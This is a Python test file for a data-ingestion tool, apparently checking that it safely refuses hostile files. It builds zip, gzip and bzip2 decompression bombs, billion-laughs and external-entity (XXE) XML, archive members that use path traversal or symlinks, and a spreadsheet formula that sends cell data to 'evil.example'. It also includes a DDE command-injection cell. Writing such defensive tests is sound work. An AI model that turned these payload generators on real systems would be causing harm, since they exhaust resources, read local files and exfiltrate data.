"""Files made to break whoever reads them: each is refused in one line or read as far as it goes, and soon."""

from __future__ import annotations

import bz2
import io
import os
import re
import stat
import struct
import tarfile
import time
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path

import pytest

from insight_synth import pipeline
from insight_synth.errors import BadInput, InsightSynthError
from insight_synth.ingest import propose_source, sandbox
from insight_synth.ingest.dates import iso_date
from insight_synth.ingest.limits import MIB, Limits
from insight_synth.ingest.numbers import number
from insight_synth.model import Row
from insight_synth.store import Workspace
from tests.conftest import write_source
from tests.ingest import made_files
from tests.ingest.conftest import WriteFile

SOON = 20.0  # seconds; a small file may take no more
SECRET = "the word that stands in another file"

ReadSafely = Callable[..., "Outcome"]


class Outcome:
    """What became of a hostile file: its rows or the error, and nothing else."""

    def __init__(self, file: Path) -> None:
        self.rows: list[Row] = []
        self.error: BadInput | None = None
        started = time.monotonic()
        try:
            reading = sandbox.read_in_child(file)
            self.notes = reading.notes
            self.rows = list(reading.rows)
        except BadInput as error:
            self.error = error
        self.seconds = time.monotonic() - started
        if self.error:
            assert self.error.remedy
            assert str(file) in str(self.error)
            assert "\n" not in str(self.error)

    @property
    def texts(self) -> list[str]:
        return [row.values.get("text", "") for row in self.rows if not row.problem]

    @property
    def problems(self) -> list[str]:
        return [row.problem for row in self.rows if row.problem]

    @property
    def refused(self) -> str:
        assert self.error is not None, f"read as {len(self.rows)} rows"
        return self.error.what


@pytest.fixture
def outcome(write: WriteFile, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[ReadSafely]:
    """``outcome(name, content)``; afterwards nothing may lie in the folder of temporary files."""
    temporary = tmp_path / "temporary"
    temporary.mkdir()
    monkeypatch.setattr("tempfile.tempdir", str(temporary))

    def outcome_of(name: str, content: str | bytes) -> Outcome:
        found = Outcome(write(name, content))
        assert found.seconds < SOON
        return found

    yield outcome_of
    assert list(temporary.iterdir()) == []


# ---- in a batch


def test_the_rest_of_a_batch_is_unharmed(ws: Workspace, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sandbox, "_READ_AND_SPOOL", "tests.ingest.misbehaving:read_or_misbehave")
    monkeypatch.setattr(sandbox, "_OURS", re.compile(r"(insight_synth|tests)[.\w]*:\w+"))
    monkeypatch.setattr(Limits, "for_file", lambda size: Limits(memory=200 * MIB, processor=2, clock=3))
    folder = write_source(tmp_path / "complaints", [{"id": "1", "text": "The parcel came late"}], file="a.csv")
    write_source(folder, [{"id": "2", "text": "The mug was broken"}], file="zz.csv")
    bad = ("abort", "eat_memory", "leave", "loop", "nest", "panic", "read_nowhere", "sleep")
    for name in bad:
        (folder / f"{name}.csv").write_text(f"id,text\n{name},late\n", encoding="utf-8")
    (folder / "bomb.csv").write_bytes(b"PK\3\4" + bytes(100))
    failed: list[InsightSynthError] = []
    added = pipeline.add(ws, [folder], failed=failed.append)
    assert [(export.name, export.rows, export.verbatims) for export in added] == [("a.csv", 1, 1), ("zz.csv", 1, 1)]
    assert [Path(error.where).stem for error in failed] == sorted([*bad, "bomb"])
    assert all(isinstance(error, BadInput) and error.remedy for error in failed)
    assert len(list(folder.parent.joinpath("ws").rglob("*.csv*"))) <= 2  # and nothing of them is kept


# ---- bombs


def repeated(block: bytes, times: int) -> tuple[bytes, int, int]:
    """``block`` many times over: deflated without ever being whole, its CRC, and its size."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)  # each stands for itself: it can be repeated
    checksum = 0
    for _ in range(times):
        checksum = zlib.crc32(block, checksum)
    return packed * times + packer.flush(zlib.Z_FINISH), checksum, len(block) * times


def zip_bomb(
    name: str, block: bytes, times: int, said: int | None = None, beside: Mapping[str, bytes] | None = None
) -> bytes:
    """A zip with harmless members and one that inflates to ``times`` blocks, or says it were ``said`` bytes."""
    packed, checksum, size = repeated(block, times)
    members = [(other, 0, zlib.crc32(plain), plain, len(plain)) for other, plain in (beside or {}).items()]
    members.append((name, 8, checksum, packed, size if said is None else said))
    local = central = b""
    for title, method, crc, content, stated in members:
        fields = struct.pack("<HHHHHIIIHH", 20, 0, method, 0, 33, crc, len(content), stated, len(title), 0)
        central += b"PK\1\2\x14\0" + fields + bytes(10) + struct.pack("<I", len(local)) + title.encode()
        local += b"PK\3\4" + fields + title.encode() + content
    count = len(members)
    return local + central + struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, count, count, len(central), len(local), 0)


def gzip_bomb(block: bytes, times: int) -> bytes:
    packed, checksum, size = repeated(block, times)
    return b"\x1f\x8b\x08" + bytes(7) + packed + struct.pack("<II", checksum, size & 0xFFFFFFFF)


ROWS = b"1,late again\n" * (MIB // 13)


@pytest.mark.parametrize("said", [None, 1000], ids=["honest", "lying"])
def test_a_csv_that_inflates_a_thousandfold_is_refused(outcome: ReadSafely, said: int | None) -> None:
    found = outcome("bomb.zip", zip_bomb("a.csv", ROWS, 1500, said))
    assert "unpack" in found.refused or "damaged" in found.refused


def test_a_gzip_that_inflates_a_thousandfold_is_refused(outcome: ReadSafely) -> None:
    assert "unpacked" in outcome("bomb.csv.gz", gzip_bomb(bytes(MIB), 1500)).refused


def test_a_bzip2_that_inflates_a_millionfold_is_refused(outcome: ReadSafely) -> None:
    bomb = bz2.compress(bytes(8 * MIB)) * 64  # streams can follow each other
    assert "unpacks to more than" in outcome("bomb.csv.bz2", bomb).refused


@pytest.mark.parametrize("said", [None, 100_000], ids=["honest", "lying"])
def test_a_workbook_whose_sheet_inflates_without_end_is_refused(outcome: ReadSafely, said: int | None) -> None:
    with zipfile.ZipFile(io.BytesIO(made_files.xlsx_of_parts({}))) as archive:
        book = {name: archive.read(name) for name in archive.namelist()}
    row = b'<row><c t="inlineStr"><is><t>late</t></is></c></row>'
    block = row * (MIB // len(row))
    assert outcome("bomb.xlsx", zip_bomb("xl/worksheets/sheet1.xml", block, 2200, said, book)).refused


def test_archives_within_archives_are_not_opened(outcome: ReadSafely) -> None:
    inner = made_files.zipped({"a.csv": b"text\nlate\n"})
    for depth in range(8):
        inner = made_files.zipped({f"{depth}-{copy}.zip": inner for copy in range(4)})
    assert "archive within an archive" in outcome("nested.zip", inner).refused
    beside = outcome("mixed.zip", made_files.zipped({"good.csv": b"text\nlate\n", "inner.zip": inner}))
    assert (beside.texts, len(beside.problems)) == (["late"], 1)
    assert "archive within an archive" in beside.problems[0]


def test_an_archive_of_very_many_members_is_refused(outcome: ReadSafely) -> None:
    assert "members" in outcome("many.zip", made_files.zipped({f"{n}.csv": b"" for n in range(10_500)}, False)).refused


# ---- workbooks that lie


def test_a_cell_in_the_far_corner_is_one_cell(outcome: ReadSafely) -> None:
    cells = (
        '<row r="1"><c r="A1" t="inlineStr"><is><t>text</t></is></c></row>'
        '<row r="2"><c r="A2" t="inlineStr"><is><t>late</t></is></c></row>'
        '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>far</t></is></c></row>'
    )
    sheet = {"xl/worksheets/sheet1.xml": made_files.sheet_xml_of_rows(cells)}
    found = outcome("corner.xlsx", made_files.xlsx_of_parts(sheet))
    if found.error is None:
        assert found.texts[0] == "late"
        assert len(found.rows) == 2
        assert "far" in "".join([*found.rows[1].values.values(), found.rows[1].raw, found.rows[1].problem])
        assert len(found.rows[1].values) < 100


def test_all_rows_are_read_where_a_sheet_says_it_had_two(outcome: ReadSafely) -> None:
    rows = "".join(f"<row><c><v>{n}</v></c></row>" for n in range(1, 300_002))
    sheet = made_files.sheet_xml_of_rows('<row><c t="inlineStr"><is><t>text</t></is></c></row>' + rows, "A1:A2")
    found = outcome("lying.xlsx", made_files.xlsx_of_parts({"xl/worksheets/sheet1.xml": sheet}))
    assert len(found.rows) == 300_001
    assert found.texts[-1] == "300001"


def test_a_formula_is_its_saved_value_and_text_that_looks_like_one_stays_text(outcome: ReadSafely) -> None:
    row = (
        '<row><c t="str"><f>HYPERLINK("http://evil.example/"&amp;A1)</f><v>late</v></c>'
        "<c><f>1+1</f></c>"
        '<c t="inlineStr"><is><t>=cmd|" /C calc"!A0</t></is></c></row>'
    )
    header = "".join(made_files.cell_xml(name) for name in ("text", "unsaved", "typed"))
    sheet = made_files.sheet_xml_of_rows(f"<row>{header}</row>{row}")
    found = outcome("formulas.xlsx", made_files.xlsx_of_parts({"xl/worksheets/sheet1.xml": sheet}))
    assert dict(found.rows[0].values) == {"text": "late", "unsaved": "", "typed": '=cmd|" /C calc"!A0'}


# ---- XML entities


def billion_laughs(root: str) -> str:
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    return f'<!DOCTYPE {root} [<!ENTITY l0 "lol">{levels}]>'


def outside_entity(root: str, secret: Path) -> str:
    return f'<!DOCTYPE {root} [<!ENTITY l11 SYSTEM "file://{secret}">]>'


LATE = (("text",), ("late ENTITY",))
WITH_ENTITIES: dict[str, Callable[[Callable[[str], str]], bytes]] = {
    "sheet.xlsx": lambda dtd: made_files.xlsx_of_parts(
        {"xl/worksheets/sheet1.xml": made_files.sheet_xml(LATE, prologue=dtd("worksheet"))}
    ),
    "workbook.xlsx": lambda dtd: made_files.xlsx_of_parts(
        {"xl/worksheets/sheet1.xml": made_files.sheet_xml(LATE)},
        '<sheet name="ENTITY" sheetId="1" r:id="r1"/>',
        prologue=dtd("workbook"),
    ),
    "notes.docx": lambda dtd: made_files.docx(["late ENTITY", "more"], dtd("w:document")),
    "open.ods": lambda dtd: made_files.ods(LATE, dtd("office:document-content")),
    "records.xml": lambda dtd: (
        f'<?xml version="1.0"?>{dtd("r")}<r><i><text>late ENTITY</text></i><i><text>b</text></i></r>'.encode()
    ),
    "page.html": lambda dtd: (
        f'<?xml version="1.0"?>{dtd("html")}<html><body><table><tr><th>text</th></tr><tr><td>late ENTITY</td></tr>'
        "<tr><td>two</td></tr></table></body></html>"
    ).encode(),
}


def with_entities(name: str, dtd: Callable[[str], str]) -> bytes:
    """The file with an entity of ``dtd`` where its maker wrote ENTITY."""
    content = WITH_ENTITIES[name](dtd)
    if not zipfile.is_zipfile(io.BytesIO(content)):
        return content.replace(b" ENTITY<", b" &l11;<")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        members = {entry: archive.read(entry) for entry in archive.namelist()}
    put_in = {n: part.replace(b" ENTITY<", b" &l11;<").replace(b'"ENTITY"', b'"&l11;"') for n, part in members.items()}
    return made_files.zipped(put_in, compressed=not name.endswith(".ods"))


@pytest.mark.parametrize("name", WITH_ENTITIES)
def test_entities_that_multiply_are_never_spelled_out(outcome: ReadSafely, name: str) -> None:
    found = outcome(name, with_entities(name, billion_laughs))
    assert found.error or "lollol" not in str(found.rows)
    assert found.seconds < 5


@pytest.mark.parametrize("name", WITH_ENTITIES)
def test_entities_that_point_outside_bring_nothing_in(outcome: ReadSafely, tmp_path: Path, name: str) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET, encoding="utf-8")
    found = outcome(name, with_entities(name, lambda root: outside_entity(root, secret)))
    assert SECRET not in str(found.rows) + str(found.error)


# ---- depth and length


@pytest.mark.parametrize("opening", ["[", '{"a":', '[{"a":'], ids=["lists", "objects", "both"])
@pytest.mark.parametrize("name", ["deep.json", "deep.jsonl"])
def test_json_nested_without_end_is_told(outcome: ReadSafely, name: str, opening: str) -> None:
    found = outcome(name, opening * 100_000)
    assert found.error or found.problems


def test_one_deep_line_does_not_cost_the_others(outcome: ReadSafely) -> None:
    found = outcome("a.jsonl", '{"text": "late"}\n' + '{"a":' * 50_000 + "1" + "}" * 50_000 + '\n{"text": "lost"}\n')
    assert found.texts == ["late", "lost"]
    assert len(found.problems) == 1


def test_markup_nested_without_end_is_told_or_read(outcome: ReadSafely) -> None:
    found = outcome("deep.html", "<!DOCTYPE html><html><body>" + "<div>" * 200_000 + "late")
    assert found.error or len(found.rows) <= 1
    assert outcome("deep.xml", '<?xml version="1.0"?>' + "<a>" * 200_000).refused


@pytest.mark.parametrize("name", ["long.csv", "long.jsonl", "long.txt", "long.html", "long.xml"])
def test_a_line_that_never_ends_is_told_or_read(write: WriteFile, name: str) -> None:
    file = write(name, {"jsonl": b'{"text": "', "html": b"<html><body><p>", "xml": b"<r><i><text>"}.get(
        name.partition(".")[2], b"id,text\n1,"))  # fmt: skip
    with file.open("ab") as stream:
        for _ in range(300):
            stream.write(b"a" * MIB)
    found = Outcome(file)
    assert found.seconds < 60
    assert found.error or len(found.rows) <= 1


def test_a_gigabyte_of_nothing_is_refused(tmp_path: Path) -> None:
    file = tmp_path / "sparse.csv"
    with file.open("wb") as stream:
        stream.write(b"id,text\n1,")
        stream.truncate(1 << 30)
    found = Outcome(file)
    assert found.seconds < 60
    assert found.error or len(found.rows) <= 1


# ---- archives that reach outside


@pytest.mark.parametrize("name", ["../../outside.csv", "/tmp/outside.csv", "..\\outside.csv", "C:\\outside.csv"])
def test_a_member_whose_name_leads_out_is_a_problem_and_written_nowhere(
    outcome: ReadSafely, tmp_path: Path, name: str
) -> None:
    members = {"good.csv": b"text\nlate\n", name: b"text\nevil\n"}
    for archive, content in (("a.zip", made_files.zipped(members)), ("a.tar", made_files.tarred(members))):
        found = outcome(archive, content)
        assert found.texts == ["late"]
        assert len(found.problems) == 1
        assert "leads out" in found.problems[0]
        assert not any(Path(place, "outside.csv").exists() for place in ("/tmp", tmp_path, tmp_path.parent, "."))


def test_a_link_in_an_archive_is_not_followed(outcome: ReadSafely, tmp_path: Path) -> None:
    secret = tmp_path / "secret.csv"
    secret.write_text(f"text\n{SECRET}\n", encoding="utf-8")
    zipped = io.BytesIO(made_files.zipped({"good.csv": b"text\nlate\n"}))
    with zipfile.ZipFile(zipped, "a") as archive:
        link = zipfile.ZipInfo("link.csv")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, str(secret))
    tarred = io.BytesIO(made_files.tarred({"good.csv": b"text\nlate\n"}))
    with tarfile.open(fileobj=tarred, mode="a") as tape:
        for name, kind in (("soft.csv", tarfile.SYMTYPE), ("hard.csv", tarfile.LNKTYPE)):
            entry = tarfile.TarInfo(name)
            entry.type, entry.linkname = kind, str(secret)
            tape.addfile(entry)
    for name, content, links in (("a.zip", zipped.getvalue(), 1), ("a.tar", tarred.getvalue(), 2)):
        found = outcome(name, content)
        assert found.texts == ["late"]
        assert found.problems == ["a link, which is not followed"] * links
        assert SECRET not in str(found.rows)


# ---- files cut short


@pytest.mark.parametrize("name", made_files.files())
def test_a_file_cut_short_is_read_as_far_as_it_goes_or_refused(outcome: ReadSafely, name: str) -> None:
    whole = made_files.files()[name]
    for share in (0.02, 0.3, 0.6, 0.95):
        found = outcome(name, whole[: int(len(whole) * share)])
        assert found.error or all(row.locator for row in found.rows)


def test_a_workbook_cut_short_is_never_taken_for_whole(outcome: ReadSafely) -> None:
    for name in ("book.xlsx", "open.ods", "notes.docx", "table.parquet", "table.csv.gz", "tables.zip"):
        whole = made_files.files()[name]
        found = outcome(name, whole[: len(whole) - 40])
        assert found.error or found.problems


# ---- names and values no one would write


def test_a_file_whose_name_is_no_text_is_added_under_one_that_is(ws: Workspace, tmp_path: Path) -> None:
    folder = write_source(tmp_path / "complaints", [{"id": "1", "text": "The parcel came late"}], file="a.csv")
    (folder / "a.csv").rename(folder / os.fsdecode(b"\xe4.csv"))
    (export,) = pipeline.add(ws, [folder])
    assert (export.name, export.verbatims) == ("\\udce4.csv", 1)


def test_a_column_name_as_long_as_a_book_is_soon_read_and_proposed(write: WriteFile) -> None:
    started = time.monotonic()
    file = write("long.csv", f"id,{'palaute' * 30_000}\n1,it came late again\n2,it was lost once more\n")
    source, _ = propose_source(file, "s", "complaints")
    assert time.monotonic() - started < SOON / 4
    assert len(source.columns.text[0]) < 3_000


def test_numbers_too_large_to_reckon_with_are_none() -> None:
    assert [number(given) for given in ("1e999", "9" * 400, "-" + "9" * 400)] == [None] * 3


def test_digits_of_other_kinds_are_no_date() -> None:
    assert [iso_date(given) for given in ("³ March 2024", "① March 2024")] == ["", ""]
